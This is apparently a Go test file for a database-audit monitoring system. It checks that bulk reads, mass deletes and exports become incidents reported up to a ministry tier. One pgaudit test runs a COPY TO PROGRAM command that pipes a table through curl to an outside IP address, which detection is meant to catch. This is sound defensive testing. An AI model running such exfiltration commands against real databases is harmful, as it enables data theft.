package node

import (
	"bytes"
	"context"
	"crypto/tls"
	"database/sql"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	mysqldrv "github.com/go-sql-driver/mysql"
	_ "github.com/jackc/pgx/v5/stdlib"

	"github.com/shuan-dev/shuan"
	"github.com/shuan-dev/shuan/detect"
	"github.com/shuan-dev/shuan/fed"
	"github.com/shuan-dev/shuan/incident"
	"github.com/shuan-dev/shuan/ingest"
	"github.com/shuan-dev/shuan/source/sourcetest"
	"github.com/shuan-dev/shuan/sqlstore"
)

// markImportant approves a catalog at r whose entry carries table at level.
func markImportant(t *testing.T, r *Runtime, table, level string) {
	t.Helper()
	ctx := context.Background()
	ed, rv := catalogUsers(t, r)
	fields := append(completeEntry("M", 20000), [2]string{"level", level}, [2]string{"tables", table})
	if _, err := r.SetCatalogEntry(ctx, ed, "M", fields, false); err != nil {
		t.Fatal(err)
	}
	if _, err := r.ApproveCatalog(ctx, rv, 0); err != nil {
		t.Fatal(err)
	}
}

// waitMonitor waits until r's monitor runs and knows n important objects.
func waitMonitor(t *testing.T, r *Runtime, objects int) {
	t.Helper()
	waitFor(t, "monitor running", func() error {
		st, err := r.MonitorStatus(context.Background())
		if err != nil {
			return err
		}
		if !st.Running || st.Objects < objects {
			return fmt.Errorf("status %+v", st)
		}
		return nil
	})
	time.Sleep(500 * time.Millisecond) // the tailers open their files
}

// incidentOf finds the incident at r that involves actor and risk.
func incidentOf(r *Runtime, actor, risk string) func() (sqlstore.IncidentRecord, error) {
	return func() (sqlstore.IncidentRecord, error) {
		all, err := r.Incidents(context.Background(), sqlstore.IncidentFilter{})
		if err != nil {
			return sqlstore.IncidentRecord{}, err
		}
		for _, rec := range all {
			if slices.Contains(rec.Incident.Actors, actor) && slices.Contains(rec.Incident.Risks, risk) {
				return rec, nil
			}
		}
		return sqlstore.IncidentRecord{}, fmt.Errorf("no %s incident of %s among %d", risk, actor, len(all))
	}
}

// waitIncident waits for the incident of actor and risk at the enterprise,
// checks it against want, then for the same revision at the ministry
// through the province, and that the other province never sees it.
func waitIncident(t *testing.T, f *federation, ent *tier, actor, risk, wantLevel string) sqlstore.IncidentRecord {
	t.Helper()
	ctx := context.Background()
	var rec sqlstore.IncidentRecord
	waitFor(t, risk+" incident of "+actor+" at the enterprise", func() (err error) {
		rec, err = incidentOf(ent.Runtime, actor, risk)()
		if err == nil && wantLevel != "" && rec.Incident.Grading.Level != wantLevel {
			err = fmt.Errorf("level %s, want %s", rec.Incident.Grading.Level, wantLevel)
		}
		return err
	})
	id := rec.Incident.ID
	for _, at := range []*tier{f.js, f.ministry} {
		waitFor(t, "incident "+id+" at "+at.Cfg.Name, func() error {
			got, err := at.Incident(ctx, id)
			if err != nil {
				return err
			}
			if got.NodeID != ent.Cfg.ID || got.Region != ent.Cfg.Region || got.Incident.Grading.Level != rec.Incident.Grading.Level {
				return fmt.Errorf("got %s r%d %s from %s", got.Incident.ID, got.Revision, got.Incident.Grading.Level, got.NodeName)
			}
			return nil
		})
	}
	if _, err := f.gd.Incident(ctx, id); shuan.ErrorCode(err) != shuan.ENOTFOUND {
		t.Errorf("incident %s at the other province: %v", id, err)
	}
	return rec
}

// TestMonitorNDJSONLeakToMinistry feeds scripted events through an NDJSON
// file at an enterprise: a bulk read of a core table becomes a 特别重大
// incident at the ministry; the workflow travels up as revisions and a
// warning travels down to the enterprises of its region only.
func TestMonitorNDJSONLeakToMinistry(t *testing.T) {
	f := newFederation(t)
	ctx := context.Background()
	markImportant(t, f.steel.Runtime, "public.formula", shuan.LevelCore)
	path := filepath.Join(t.TempDir(), "events.ndjson")
	if err := os.WriteFile(path, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := f.steel.SetMonitor(MonitorConfig{NDJSON: []string{path}, Refresh: "200ms"}); err != nil {
		t.Fatal(err)
	}
	waitMonitor(t, f.steel.Runtime, 1)
	fh, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t0 := time.Now().UTC().Add(-time.Minute)
	for i := range 20 {
		ev := shuan.Event{ID: fmt.Sprint("ev", i), Time: t0.Add(time.Duration(i) * time.Second), Source: "ndjson", Actor: "intern",
			Client: "10.2.3.4", Database: "erp", Object: "public.formula", Action: "SELECT", Class: "READ", Rows: 1000,
			Statement: "SELECT * FROM public.formula", Success: true}
		b, _ := json.Marshal(ev)
		fh.Write(append(b, '\n'))
	}
	fh.Close()
	rec := waitIncident(t, f, f.steel, "intern", shuan.RiskLeakage, incident.LevelParticularlyMajor)
	if rec.Incident.Facts.DataLevel != shuan.LevelCore || len(rec.Clocks) == 0 || rec.Initial.LevelZH == "" {
		t.Errorf("record %+v", rec)
	}
	alerts, err := f.steel.Alerts(ctx, shuan.RiskLeakage, 0)
	if err != nil || len(alerts) == 0 || alerts[0].IncidentID == "" {
		t.Fatalf("alerts %+v, %v", alerts, err)
	}

	// Workflow: each step is a new revision at the ministry.
	id := rec.Incident.ID
	if _, err := f.js.TransitionIncident(ctx, shuan.User{}, id, incident.StatusConfirmed, ""); shuan.ErrorCode(err) != shuan.EFORBIDDEN {
		t.Errorf("province transitioning: %v", err)
	}
	if _, err := f.steel.TransitionIncident(ctx, shuan.User{}, id, incident.StatusResolved, "skip"); shuan.ErrorCode(err) != shuan.ECONFLICT {
		t.Errorf("skipping a step: %v", err)
	}
	rg, err := f.steel.RegradeIncident(ctx, shuan.User{}, id, incident.Facts{PI: 1200, DataLevel: shuan.LevelGeneral}, "核实涉及员工信息")
	if err != nil || rg.Revision <= rec.Revision || rg.Incident.Facts.PI != 1200 || rg.Incident.Facts.DataLevel != shuan.LevelCore {
		t.Fatalf("regrade: r%d %+v %v", rg.Revision, rg.Incident.Facts, err)
	}
	var last sqlstore.IncidentRecord
	for _, to := range []incident.Status{incident.StatusConfirmed, incident.StatusContained, incident.StatusResolved, incident.StatusSummarized} {
		if last, err = f.steel.TransitionIncident(ctx, shuan.User{}, id, to, "步骤 "+string(to)); err != nil {
			t.Fatal(err)
		}
	}
	if last.Summary == nil || last.Revision <= rec.Revision {
		t.Fatalf("summarized record r%d summary %v", last.Revision, last.Summary)
	}
	waitFor(t, "summarized at the ministry", func() error {
		got, err := f.ministry.Incident(ctx, id)
		if err != nil {
			return err
		}
		if got.Incident.Status != incident.StatusSummarized || got.Revision != last.Revision || got.Summary == nil {
			return fmt.Errorf("r%d %s", got.Revision, got.Incident.Status)
		}
		return nil
	})
	// Filters at the ministry: by region and by level.
	if got, _ := f.ministry.Incidents(ctx, sqlstore.IncidentFilter{Region: "440000"}); len(got) != 0 {
		t.Errorf("Guangdong incidents at the ministry: %d", len(got))
	}
	if got, _ := f.ministry.Incidents(ctx, sqlstore.IncidentFilter{Region: "320000", Level: incident.LevelParticularlyMajor}); len(got) == 0 {
		t.Errorf("no Jiangsu 特别重大 incident at the ministry")
	}

	// A warning from the ministry to Jiangsu reaches its enterprises only.
	if _, err := f.steel.SendWarning(ctx, shuan.User{}, fed.WarningBody{Colour: incident.ColourRed, Title: "t", Text: "x", Target: shuan.Target{All: true}}); shuan.ErrorCode(err) != shuan.EFORBIDDEN {
		t.Errorf("enterprise warning: %v", err)
	}
	w, err := f.ministry.SendWarning(ctx, shuan.User{}, fed.WarningBody{Colour: incident.ColourOrange, Title: "配方数据泄露风险",
		Text: "请立即排查核心数据批量读取", Risk: shuan.RiskLeakage, Target: shuan.Target{Regions: []string{"320000"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, at := range []*tier{f.js, f.steel, f.ic} {
		waitFor(t, "warning at "+at.Cfg.Name, func() error {
			ws, err := at.Warnings(ctx, 0)
			if err != nil {
				return err
			}
			if len(ws) == 0 || ws[0].ID != w.ID || ws[0].OriginName != f.ministry.Cfg.Name {
				return fmt.Errorf("warnings %+v", ws)
			}
			return nil
		})
	}
	for _, at := range []*tier{f.gd, f.auto} {
		if ws, _ := at.Warnings(ctx, 0); len(ws) != 0 {
			t.Errorf("warning reached %s", at.Cfg.Name)
		}
	}
}

// TestMonitorPgauditEndToEnd runs a real leak, a mass DELETE and a COPY TO
// PROGRAM attempt on PostgreSQL with pgaudit, each as its own login role,
// and follows each from the server log at the enterprise to the ministry.
func TestMonitorPgauditEndToEnd(t *testing.T) {
	admin := sourcetest.Env(t, "SHUAN_TEST_PG_ADMIN_URL")
	logPath := sourcetest.Env(t, "SHUAN_TEST_PG_LOG")
	ctx := context.Background()
	adb, err := sql.Open("pgx", admin)
	if err != nil {
		t.Fatal(err)
	}
	defer adb.Close()
	suffix := rand.Int64N(1 << 40)
	dbName := fmt.Sprintf("monitor_e2e_%d", suffix)
	leaker, deleter, exporter := fmt.Sprintf("leaker_%d", suffix), fmt.Sprintf("deleter_%d", suffix), fmt.Sprintf("exporter_%d", suffix)
	intruder := fmt.Sprintf("intruder_%d", suffix)
	if _, err := adb.Exec("CREATE DATABASE " + dbName); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		adb.Exec("DROP DATABASE IF EXISTS " + dbName + " WITH (FORCE)")
		for _, r := range []string{leaker, deleter, exporter, intruder} {
			adb.Exec("DROP ROLE IF EXISTS " + r)
		}
	})
	u, _ := url.Parse(admin)
	u.Path = "/" + dbName
	db, err := sql.Open("pgx", u.String())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	must := func(db *sql.DB, q string) {
		t.Helper()
		if _, err := db.ExecContext(ctx, q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	must(db, "CREATE EXTENSION IF NOT EXISTS pgaudit")
	if _, err := db.ExecContext(ctx, "ALTER DATABASE "+dbName+" SET pgaudit.log_rows = on"); err != nil {
		t.Logf("pgaudit.log_rows not settable: %v", err)
	}
	must(db, "CREATE TABLE formula (id int PRIMARY KEY, recipe text)")
	must(db, "INSERT INTO formula SELECT g, 'r' || g FROM generate_series(1, 20000) g")
	must(db, "CREATE TABLE quality_check (id int PRIMARY KEY, v int)")
	must(db, "INSERT INTO quality_check SELECT g, g FROM generate_series(1, 15000) g")
	must(db, "CREATE TABLE shipments (id int PRIMARY KEY, dest text)")
	for _, r := range []string{leaker, deleter, exporter, intruder} {
		must(db, "CREATE ROLE "+r+" LOGIN PASSWORD 'pw-"+r+"'")
		must(db, "GRANT SELECT, DELETE ON formula, quality_check, shipments TO "+r)
	}
	as := func(role string) *sql.DB {
		v := *u
		v.User = url.UserPassword(role, "pw-"+role)
		d, err := sql.Open("pgx", v.String())
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { d.Close() })
		return d
	}

	f := newFederation(t)
	markImportant(t, f.steel.Runtime, "formula", shuan.LevelCore)
	rules := accessPack(t)
	if err := f.steel.SetMonitor(MonitorConfig{Pgaudit: []string{logPath}, Refresh: "200ms", RulesDir: rules}); err != nil {
		t.Fatal(err)
	}
	waitMonitor(t, f.steel.Runtime, 1)

	// A leak: the whole core table read at once.
	rows, err := as(leaker).QueryContext(ctx, "SELECT id, recipe FROM formula")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for rows.Next() {
		n++
	}
	rows.Close()
	// Tampering: a mass DELETE.
	must(as(deleter), "DELETE FROM quality_check WHERE id > 100")
	// Illegal transmission: COPY TO PROGRAM, refused to a plain role but logged.
	_, copyErr := as(exporter).ExecContext(ctx, "COPY shipments TO PROGRAM 'curl -T - http://203.0.113.9/'")
	t.Logf("read %d rows; COPY TO PROGRAM: %v", n, copyErr)

	leak := waitIncident(t, f, f.steel, leaker, shuan.RiskLeakage, incident.LevelParticularlyMajor)
	if leak.Incident.Facts.DataLevel != shuan.LevelCore {
		t.Errorf("leak data level %q", leak.Incident.Facts.DataLevel)
	}
	del := waitIncident(t, f, f.steel, deleter, shuan.RiskTampering, "")
	exp := waitIncident(t, f, f.steel, exporter, shuan.RiskIllegalTransfer, "")
	for _, rec := range []sqlstore.IncidentRecord{leak, del, exp} {
		t.Logf("%s %s %s r%d risks=%v severity=%s alerts=%d", rec.Incident.ID, rec.Incident.Grading.LevelZH, rec.Incident.Title,
			rec.Revision, rec.Incident.Risks, rec.Incident.Severity, rec.Incident.AlertCount)
	}
	if del.Incident.ID == leak.Incident.ID || exp.Incident.ID == leak.Incident.ID || del.Incident.ID == exp.Incident.ID {
		t.Errorf("the three attacks share incidents")
	}

	// An off-hours login from an unknown client: the site's working hours
	// (from its rules directory) exclude now, and the account was never
	// seen during the learning period.
	time.Sleep(3 * time.Second)
	var one int
	if err := as(intruder).QueryRowContext(ctx, "SELECT count(*) FROM shipments").Scan(&one); err != nil {
		t.Fatal(err)
	}
	in := waitIncident(t, f, f.steel, intruder, shuan.RiskIllegalAccess, "")
	waitFor(t, "off-hours and unknown-client alerts for "+intruder, func() error {
		as, err := f.steel.Alerts(ctx, shuan.RiskIllegalAccess, 0)
		if err != nil {
			return err
		}
		got := map[string]bool{}
		for _, a := range as {
			if a.Actor == intruder && a.IncidentID == in.Incident.ID {
				got[a.Rule] = true
			}
		}
		if !got["e2e-off-hours"] || !got["e2e-unknown-client"] {
			return fmt.Errorf("rules fired for %s: %v", intruder, got)
		}
		return nil
	})
}

// accessPack writes a site rule pack whose working hours exclude the
// present hour and whose learning period for new clients is two seconds.
func accessPack(t *testing.T) string {
	sh, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Fatal(err)
	}
	h := (time.Now().In(sh).Hour() + 6) % 24
	inHours := time.Date(2026, 11, 2, h, 10, 0, 0, sh).UTC().Format(time.RFC3339)
	pack := fmt.Sprintf(`pack:
  name: e2e-access
  version: "1"
  description: site working hours and a short learning period (test)
stateful:
  - id: e2e-off-hours
    title: 非工作时间访问 Access outside the site's working hours
    kind: off_hours
    risk: illegal_access
    severity: medium
    summary_zh: 账号 {actor}（{client}）在非工作时间访问 {object}
    summary_en: account {actor} ({client}) accessed {object} outside working hours
    match: {classes: [READ, WRITE, DDL, ROLE, AUTH]}
    params: {timezone: Asia/Shanghai, hours: "%02d:00-%02d:30", weekdays: [1, 2, 3, 4, 5], group_by: [actor, client], cooldown: 1h}
    examples:
      match:
        - {time: 2026-11-07T02:00:00Z, actor: app, class: AUTH, action: LOGIN}
      no_match:
        - {time: %s, actor: app, class: READ, action: SELECT}
  - id: e2e-unknown-client
    title: 新客户端或账号 Access from an unknown client or account
    kind: unknown_source
    risk: illegal_access
    severity: medium
    summary_zh: 账号 {actor} 首次从 {client} 访问
    summary_en: account {actor} connected from {client} for the first time
    match: {classes: [READ, WRITE, DDL, ROLE, AUTH]}
    params: {learn: 2s, group_by: [actor, client], cooldown: 24h}
    examples:
      match:
        - [{actor: app, client: 10.1.2.3, class: AUTH, action: LOGIN},
           {time: 2026-11-10T02:00:00Z, actor: app, client: 198.51.100.9, class: AUTH, action: LOGIN}]
      no_match:
        - [{actor: app, client: 10.1.2.3, class: AUTH, action: LOGIN},
           {time: 2026-11-10T02:00:00Z, actor: app, client: 10.1.2.3, class: AUTH, action: LOGIN}]
`, h, h, inHours)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "e2e-access.yaml"), []byte(pack), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestMonitorMariaDBEndToEnd exports a catalogued table with SELECT … INTO
// OUTFILE on MariaDB with the server_audit plugin and follows the event
// from the audit log at the enterprise to the ministry. server_audit is
// configured globally; a named lock keeps concurrent runs of this test apart.
func TestMonitorMariaDBEndToEnd(t *testing.T) {
	raw := sourcetest.Env(t, "SHUAN_TEST_MYSQL_URL")
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	cfg := mysqldrv.NewConfig()
	cfg.Net, cfg.Addr, cfg.User = "tcp", u.Host, u.User.Username()
	cfg.Passwd, _ = u.User.Password()
	db, err := sql.Open("mysql", cfg.FormatDSN())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	ctx := context.Background()
	conn, err := db.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	must := func(q string) {
		t.Helper()
		if _, err := conn.ExecContext(ctx, q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	var got int
	if err := conn.QueryRowContext(ctx, "SELECT GET_LOCK('shuan_server_audit', 120)").Scan(&got); err != nil || got != 1 {
		t.Fatalf("server_audit lock: %d %v", got, err)
	}
	t.Cleanup(func() { conn.ExecContext(ctx, "SELECT RELEASE_LOCK('shuan_server_audit')") })
	if _, err := conn.ExecContext(ctx, "INSTALL SONAME 'server_audit'"); err != nil && !strings.Contains(err.Error(), "exist") && !strings.Contains(err.Error(), "installed") {
		t.Logf("install server_audit: %v", err)
	}
	old := map[string]string{}
	for _, v := range []string{"server_audit_file_path", "server_audit_logging", "server_audit_events"} {
		var name, val string
		if err := conn.QueryRowContext(ctx, "SHOW GLOBAL VARIABLES LIKE '"+v+"'").Scan(&name, &val); err != nil {
			t.Fatal(err)
		}
		old[v] = val
	}
	dir, err := os.MkdirTemp("", "shuan-monitor-audit-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(dir, 0o777)
	t.Cleanup(func() { os.RemoveAll(dir) })
	logPath := filepath.Join(dir, "server_audit.log")
	claim := func() {
		must("SET GLOBAL server_audit_logging = OFF")
		must("SET GLOBAL server_audit_file_path = '" + logPath + "'")
		must("SET GLOBAL server_audit_events = 'CONNECT,QUERY,TABLE'")
		must("SET GLOBAL server_audit_logging = ON")
	}
	claim()
	t.Cleanup(func() {
		conn.ExecContext(ctx, "SET GLOBAL server_audit_logging = OFF")
		conn.ExecContext(ctx, "SET GLOBAL server_audit_file_path = '"+strings.ReplaceAll(old["server_audit_file_path"], "'", "''")+"'")
		conn.ExecContext(ctx, "SET GLOBAL server_audit_events = '"+old["server_audit_events"]+"'")
		conn.ExecContext(ctx, "SET GLOBAL server_audit_logging = "+old["server_audit_logging"])
	})
	waitExists := time.Now().Add(5 * time.Second)
	for _, err := os.Stat(logPath); err != nil && time.Now().Before(waitExists); _, err = os.Stat(logPath) {
		must("SELECT 1")
		time.Sleep(100 * time.Millisecond)
	}

	f := newFederation(t)
	markImportant(t, f.steel.Runtime, "recipes", shuan.LevelCore)
	if err := f.steel.SetMonitor(MonitorConfig{MariaDB: []string{logPath}, Refresh: "200ms"}); err != nil {
		t.Fatal(err)
	}
	waitMonitor(t, f.steel.Runtime, 1)

	suffix := rand.Int64N(1 << 40)
	dbName := fmt.Sprintf("monitor_e2e_%d", suffix)
	must("CREATE DATABASE " + dbName)
	t.Cleanup(func() { db.Exec("DROP DATABASE IF EXISTS " + dbName) })
	must("USE " + dbName)
	must("CREATE TABLE recipes (id INT PRIMARY KEY, recipe VARCHAR(64))")
	must("INSERT INTO recipes VALUES (1, 'C:0.21%'), (2, 'Mn:1.4%')")
	// Other tests (package ingest) reconfigure server_audit without our
	// lock: when the log path was taken from us, claim it back and retry.
	for attempt := 1; ; attempt++ {
		_, outErr := conn.ExecContext(ctx, fmt.Sprintf("SELECT id, recipe FROM recipes INTO OUTFILE '%s'", filepath.Join(dir, fmt.Sprintf("out%d.csv", attempt))))
		t.Logf("INTO OUTFILE (attempt %d): %v", attempt, outErr)
		deadline := time.Now().Add(10 * time.Second)
		var err error
		for ; time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
			if _, err = incidentOf(f.steel.Runtime, cfg.User, shuan.RiskIllegalTransfer)(); err == nil {
				break
			}
		}
		if err == nil {
			break
		}
		var name, path string
		conn.QueryRowContext(ctx, "SHOW GLOBAL VARIABLES LIKE 'server_audit_file_path'").Scan(&name, &path)
		if path == logPath || attempt == 3 {
			t.Fatalf("no illegal-transfer incident at the enterprise: %v (server_audit_file_path %s)", err, path)
		}
		claim()
	}
	exp := waitIncident(t, f, f.steel, cfg.User, shuan.RiskIllegalTransfer, "")
	t.Logf("%s %s %s risks=%v data=%s", exp.Incident.ID, exp.Incident.Grading.LevelZH, exp.Incident.Title, exp.Incident.Risks, exp.Incident.Facts.DataLevel)
	if !slices.Contains(exp.Incident.Objects, dbName+".recipes") {
		t.Errorf("objects %v", exp.Incident.Objects)
	}
}

// TestMonitorNDJSONOverHTTPS posts events to the enterprise's NDJSON
// listener (the node's certificate, a bearer token): a COPY TO PROGRAM
// becomes an illegal-transfer incident at the ministry.
func TestMonitorNDJSONOverHTTPS(t *testing.T) {
	f := newFederation(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	const tok = "ingest-token-0123456789"
	if err := f.steel.SetMonitor(MonitorConfig{NDJSONListen: addr, NDJSONToken: tok, Refresh: "200ms"}); err != nil {
		t.Fatal(err)
	}
	cl := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: f.steel.Roots}}, Timeout: 5 * time.Second}
	ev := shuan.Event{ID: "x1", Time: time.Now().UTC(), Source: "ndjson", Actor: "ops", Client: "10.9.9.9", Database: "erp",
		Object: "public.orders", Action: "COPY", Class: "READ", Rows: -1, Statement: "COPY public.orders TO PROGRAM ?", Success: false,
		Fields: map[string]string{"export": "program"}}
	body, _ := json.Marshal(ev)
	post := func(token string) (int, error) {
		req, _ := http.NewRequest(http.MethodPost, "https://"+addr+ingest.HandlerPath, bytes.NewReader(append(body, '\n')))
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := cl.Do(req)
		if err != nil {
			return 0, err
		}
		resp.Body.Close()
		return resp.StatusCode, nil
	}
	waitFor(t, "NDJSON listener up", func() error {
		code, err := post("wrong-token-0123456789")
		if err == nil && code != http.StatusUnauthorized {
			return fmt.Errorf("wrong token: %d", code)
		}
		return err
	})
	if code, err := post(tok); err != nil || code != http.StatusOK {
		t.Fatalf("post: %d %v", code, err)
	}
	waitIncident(t, f, f.steel, "ops", shuan.RiskIllegalTransfer, "")
}

// TestMonitorRestartNeitherLosesNorRepeats restarts a monitoring enterprise:
// events already read are not read again (no new alerts or revisions) and
// events written while it was down are read once it is back.
func TestMonitorRestartNeitherLosesNorRepeats(t *testing.T) {
	f := newFederation(t)
	ctx := context.Background()
	markImportant(t, f.steel.Runtime, "public.formula", shuan.LevelCore)
	path := filepath.Join(t.TempDir(), "events.ndjson")
	write := func(actor string, n int) {
		fh, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0o600)
		if err != nil {
			t.Fatal(err)
		}
		defer fh.Close()
		t0 := time.Now().UTC().Add(-time.Minute)
		for i := range n {
			ev := shuan.Event{Time: t0.Add(time.Duration(i) * time.Second), Source: "ndjson", Actor: actor, Client: "10.2.3.4",
				Database: "erp", Object: "public.formula", Action: "SELECT", Class: "READ", Rows: 1000, Success: true}
			b, _ := json.Marshal(ev)
			fh.Write(append(b, '\n'))
		}
	}
	write("first", 0)
	if err := f.steel.SetMonitor(MonitorConfig{NDJSON: []string{path}, Refresh: "200ms"}); err != nil {
		t.Fatal(err)
	}
	waitMonitor(t, f.steel.Runtime, 1)
	write("first", 20)
	first := waitIncident(t, f, f.steel, "first", shuan.RiskLeakage, "")
	time.Sleep(time.Second)
	before, _ := f.steel.Alerts(ctx, "", 0)
	first, _ = f.steel.Incident(ctx, first.Incident.ID)

	f.steel.cancel()
	err := <-f.steel.done
	f.steel.done <- err // for the cleanup of the first serve
	write("second", 20) // while the node is down
	again := serve(t, f.steel.Runtime)
	waitMonitor(t, again.Runtime, 1)
	waitIncident(t, f, again, "second", shuan.RiskLeakage, "")
	after, _ := f.steel.Alerts(ctx, "", 0)
	var firstAfter int
	for _, a := range after {
		if a.Actor == "first" {
			firstAfter++
		}
	}
	var firstBefore int
	for _, a := range before {
		if a.Actor == "first" {
			firstBefore++
		}
	}
	if firstAfter != firstBefore {
		t.Errorf("alerts of the first read: %d before the restart, %d after", firstBefore, firstAfter)
	}
	if rec, _ := f.steel.Incident(ctx, first.Incident.ID); rec.Revision != first.Revision {
		t.Errorf("first incident r%d after the restart, was r%d", rec.Revision, first.Revision)
	}
}

// TestIncidentEnvelopesRevisionsAndRefusals pushes incident envelopes by
// hand: an incident naming another enterprise is refused, a late lower
// revision does not replace a higher one, and a resent envelope is a duplicate.
func TestIncidentEnvelopesRevisionsAndRefusals(t *testing.T) {
	ctx := context.Background()
	f := newFederation(t)
	c := rawClient(t, f.steel.Runtime)
	body := func(node string, rev int64, st incident.Status) sqlstore.IncidentRecord {
		return sqlstore.IncidentRecord{Revision: rev, NodeID: node, NodeName: "伪造 forged", Region: "110000",
			Incident: incident.Incident{ID: "inc-hand", Status: st, Discovered: time.Now().UTC(), Updated: time.Now().UTC(),
				Grading: incident.Grading{Level: incident.LevelMajor, LevelZH: "重大"}}}
	}
	seal := func(b sqlstore.IncidentRecord) []byte {
		_, raw, err := fed.Seal(f.steel.SignKey, f.steel.Cfg.ID, fed.KindIncident, b, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		return raw
	}
	other := seal(body(f.ic.Cfg.ID, 1, incident.StatusDetected))
	r2 := seal(body(f.steel.Cfg.ID, 2, incident.StatusConfirmed))
	r1 := seal(body(f.steel.Cfg.ID, 1, incident.StatusDetected))
	_, pr := push(t, c, f.js.url, other, r2, r1, r2)
	want := []string{shuan.ReceiptRejected, shuan.ReceiptAccepted, shuan.ReceiptAccepted, shuan.ReceiptDuplicate}
	for i, w := range want {
		if pr.Receipts[i].Status != w {
			t.Errorf("envelope %d: %+v, want %s", i, pr.Receipts[i], w)
		}
	}
	for _, at := range []*tier{f.js, f.ministry} {
		waitFor(t, "revision 2 at "+at.Cfg.Name, func() error {
			got, err := at.Incident(ctx, "inc-hand")
			if err != nil {
				return err
			}
			if got.Revision != 2 || got.Incident.Status != incident.StatusConfirmed || got.Region != f.steel.Cfg.Region || got.NodeName != f.steel.Cfg.Name {
				return fmt.Errorf("got r%d %s from %s (%s)", got.Revision, got.Incident.Status, got.NodeName, got.Region)
			}
			return nil
		})
	}
	waitFor(t, "both revisions forwarded to the ministry", func() error {
		if n, _ := f.ministry.DB.CountEnvelopes(ctx, fed.KindIncident); n != 2 {
			return fmt.Errorf("incident envelopes at the ministry: %d, want 2", n)
		}
		return nil
	})
	if got, _ := f.ministry.Incident(ctx, "inc-hand"); got.Revision != 2 {
		t.Errorf("late revision 1 replaced revision 2 at the ministry: r%d", got.Revision)
	}
}

func TestAlertPolicy(t *testing.T) {
	m := MonitorConfig{AllowClients: []string{"10.1.0.0/16", "192.0.2.7"}, AllowActors: []string{"etl"}, WorkingHours: "07:00-22:00"}
	p, err := m.policy()
	if err != nil {
		t.Fatal(err)
	}
	mon := time.Date(2026, 11, 2, 13, 30, 0, 0, time.UTC) // 21:30 Monday in Shanghai
	sat := time.Date(2026, 11, 7, 3, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		a    detect.Alert
		drop bool
	}{
		{detect.Alert{Family: "unknown_source", Client: "10.1.2.3", Actor: "app"}, true},
		{detect.Alert{Family: "unknown_source", Client: "192.0.2.7"}, true},
		{detect.Alert{Family: "unknown_source", Client: "192.0.2.8", Actor: "app"}, false},
		{detect.Alert{Family: "large_result", Client: "198.51.100.1", Actor: "etl"}, true},
		{detect.Alert{Family: "export", Client: "10.1.2.3", Actor: "etl"}, false},
		{detect.Alert{Family: "off_hours", Time: mon}, true},
		{detect.Alert{Family: "off_hours", Time: mon.Add(time.Hour)}, false},
		{detect.Alert{Family: "off_hours", Time: sat}, false},
	} {
		if got := p.drop(c.a); got != c.drop {
			t.Errorf("%+v: drop %v, want %v", c.a, got, c.drop)
		}
	}
	for _, bad := range []MonitorConfig{{AllowClients: []string{"nope"}}, {WorkingHours: "18:00-08:00"}, {WorkingHours: "8-18"},
		{Syslog: []string{"http://x"}}, {NDJSONListen: "127.0.0.1:1"}} {
		if err := bad.Validate(); shuan.ErrorCode(err) != shuan.EINVALID {
			t.Errorf("%+v: %v", bad, err)
		}
	}
}
